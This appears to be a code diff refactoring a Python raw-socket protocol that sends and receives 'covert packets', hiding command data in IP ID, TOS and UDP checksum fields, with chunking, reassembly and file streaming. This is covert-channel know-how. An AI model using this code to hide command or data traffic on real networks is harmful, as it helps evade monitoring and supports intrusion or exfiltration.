-            sock = socket.socket(
-                socket.AF_INET,
-                socket.SOCK_RAW,
-                socket.IPPROTO_RAW
-            )
-            sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-
-            chunks = [
-                data[i:i + CHUNK_SIZE]
-                for i in range(0, len(data), CHUNK_SIZE)
-            ]
-            total = len(chunks)
-
-            if total == 0:
-                chunks = [b'\x00\x00']
-                total = 1
-
-            print(f"Sending {total} covert packets")
-
-            for seq, chunk in enumerate(chunks):
-                ip_hdr = self.create_ip_header(
-                    src_ip,
-                    dst_ip,
-                    seq + 1,  # start at 1 — kernel overwrites IP ID = 0
-                    8 + len(DUMMY_PAYLOAD)
-                )
-
-                udp_hdr = self.build_covert_udp(
-                    chunk,
-                    command_type,
-                    dst_port,
-                    total
-                )
-
-                packet = ip_hdr + udp_hdr
-                sock.sendto(packet, (dst_ip, 0))
-                time.sleep(0.01)
+            pipeline = self.send_pipeline(src_ip, dst_ip, dst_port, command_type, data, codec, compress,
+                                          request_id)
+            total = pipeline.wait_ready()
 
-            sock.close()
+            if pipeline.flags & FLAG_COMPRESSED:
+                log.info("Sending %s covert packets (%s bytes compressed to %s)",
+                         total, len(data), pipeline.body_len)
+            else:
+                log.info("Sending %s covert packets", total)
+
+            pipeline.transmit()
             return True
 
         except Exception as e:
-            print(f"Error: {e}")
+            log.error("Error: %s", e)
             return False
 
-    def parse_udp_packet(self, packet):
+    def parse_udp_packet(self, packet, codec=None):
+        codec = codec or self.codec
         if len(packet) < 28:
             return None
 
@@ -151,10 +1027,13 @@ class RawSocketProtocol:
         iph = struct.unpack("!BBHHHBBH4s4s", ip)
         udph = struct.unpack("!HHHH", udp)
 
+        tos = iph[1]
         seq = iph[3]
         src_port, dst_port, length, checksum = udph
 
-        data = struct.pack("!H", checksum)
+        data = codec.decode(checksum, tos, packet[28:])
+        if data is None:
+            return None
 
         return {
             "seq": seq,
@@ -164,9 +1043,11 @@ class RawSocketProtocol:
             "data": data
         }
 
-    def receive_data(self, expected_ip, dst_port, timeout=5):
+    def receive_data(self, expected_ip, dst_port, timeout=5, sink_factory=None, codec=None):
         """
         Receive reassembled covert data from expected_ip.
+        sink_factory(src_ip, command, payload_len) may return a PayloadFileWriter to
+        stream the payload to disk; the result then has "path" and "size" set.
         """
         with self._recv_lock:
             sock = self._recv_sock
@@ -178,9 +1059,7 @@ class RawSocketProtocol:
 
         sock.settimeout(timeout)
 
-        chunks = {}
-        total = None
-        last_parsed = None
+        transfers = ReassemblyTable(sink_factory=sink_factory)
         start = time.time()
 
         try:
@@ -190,7 +1069,7 @@ class RawSocketProtocol:
                 except socket.timeout:
                     break
 
-                parsed = self.parse_udp_packet(packet)
+                parsed = self.parse_udp_packet(packet, codec)
                 if not parsed:
                     continue
 
@@ -200,35 +1079,44 @@ class RawSocketProtocol:
                 if addr[0] != expected_ip:
                     continue
 
-                seq = parsed["seq"]
-                chunks[seq] = parsed["data"]
-                total = parsed["total"]
-                last_parsed = parsed
-
-                if total and len(chunks) >= total:
+                try:
+                    ctx = transfers.feed(expected_ip, parsed)
+                except FrameError as e:
+                    # Corrupt responses are dropped on the spot, not after the full transfer
+                    log.warning("Rejected response from %s: %s", expected_ip, e)
+                    transfers.clear()
+                    return None
+                if ctx is not None and ctx.is_complete():
                     break
         finally:
             sock.close()
 
+        ctx = transfers.pop(expected_ip)
+
         # Nothing received
-        if not chunks or last_parsed is None:
+        if ctx is None:
             return None
 
-        # Verify no sequence gaps
-        expected_seqs = set(range(1, total + 1))
-        received_seqs = set(chunks.keys())
-        if expected_seqs != received_seqs:
-            missing = expected_seqs - received_seqs
-            print(f"Missing sequences: {missing}")
-
-        # Reassemble in order
-        ordered = b''.join(chunks[i] for i in sorted(chunks))
+        try:
+            result = ctx.finish()
+        except (OSError, ValueError) as e:
+            missing = ctx.missing()
+            if missing:
+                log.warning("Missing sequences: %s of %s (first %s)", len(missing), ctx.total, min(missing))
+            log.warning("Incomplete response from %s: %s", expected_ip, e)
+            return None
 
-        # Trim trailing null padding from last chunk if data length was odd
-        if len(ordered) > 0 and ordered[-1] == 0 and (total * CHUNK_SIZE) > len(ordered):
-            ordered = ordered[:-1]
+        if isinstance(result, ReceivedFile):
+            return {
+                "type": ctx.command,
+                "request_id": ctx.request_id,
+                "payload": b'',
+                "path": result.path,
+                "size": result.size
+            }
 
         return {
-            "type": last_parsed["command"],
-            "payload": ordered
-        }
\ No newline at end of file
+            "type": ctx.command,
+            "request_id": ctx.request_id,
+            "payload": result
+        }